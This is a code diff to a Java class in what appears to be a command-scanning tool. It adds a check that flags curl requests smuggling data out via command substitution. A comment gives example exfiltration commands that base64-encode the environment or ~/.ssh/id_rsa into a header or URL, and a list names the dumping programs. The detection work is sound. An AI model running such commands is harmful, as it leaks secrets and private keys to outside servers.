@@ -360,7 +360,7 @@ final class NetPack implements Pack {
             }
             return;
         }
-        boolean sends = h.body() || !h.uploads().isEmpty() || h.stdinBody();
+        boolean sends = h.body() || !h.uploads().isEmpty() || h.stdinBody() || dumpsIntoRequest(c.text());
         if (sends) {
             out.signal(Report.Signal.NETWORK_SEND);
         }
@@ -413,6 +413,31 @@ final class NetPack implements Pack {
         if (plainHttp && h.toFile() && !sends) {
             out.add(INSECURE.finding(c.text()));
         }
+    }
+
+    /** Programs whose output is data (a file, the environment, an encoding of either), not a token made for a login. */
+    private static final Set<String> DUMPERS = Set.of("env", "printenv", "set", "export", "cat", "base64", "xxd", "od", "tar",
+            "gzip", "head", "tail", "sed", "awk", "grep", "history", "ps", "ls", "find", "tr", "cut", "hexdump", "zip", "openssl");
+
+    /**
+     * {@code curl -H "X: $(env | base64 -w0)" URL}, {@code curl "URL?d=$(cat ~/.ssh/id_rsa | base64)"}: data
+     * computed by a substitution rides in a header or the URL (a token command such as {@code $(gh auth token)}
+     * in an Authorization header is a login, not this).
+     */
+    private static boolean dumpsIntoRequest(String text) {
+        for (int at = text.indexOf("$("); at >= 0 && at < 20_000; at = text.indexOf("$(", at + 2)) {
+            String inner = text.substring(at + 2).stripLeading();
+            int end = 0;
+            while (end < inner.length() && (Character.isLetterOrDigit(inner.charAt(end)) || inner.charAt(end) == '-'
+                    || inner.charAt(end) == '_')) {
+                end++;
+            }
+            if (DUMPERS.contains(inner.substring(0, end))) {
+                return true;
+            }
+        }
+        int bt = text.indexOf('`');
+        return bt >= 0 && DUMPERS.contains(text.substring(bt + 1).split("[\\s`|]", 2)[0]);
     }
 
     /**
